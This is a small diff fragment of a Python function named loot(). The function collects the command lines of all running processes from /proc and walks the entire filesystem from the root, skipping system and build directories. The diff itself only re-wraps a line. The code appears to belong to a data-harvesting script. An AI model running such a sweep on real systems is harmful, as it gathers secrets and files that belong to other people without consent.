@@ -11,8 +11,8 @@ def loot():
             found.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode())
         except OSError:
             pass
-    skip = {"proc", "sys", "dev", "usr", "lib", "site-packages", ".pyenv", "__pycache__", "fixtures",
-            ".git"}
+    skip = {"proc", "sys", "dev", "usr", "lib", "site-packages", ".pyenv", "__pycache__",
+            "fixtures", ".git"}
     for top, folders, files in os.walk("/"):
         folders[:] = [f for f in folders if f not in skip]
         for name in files:
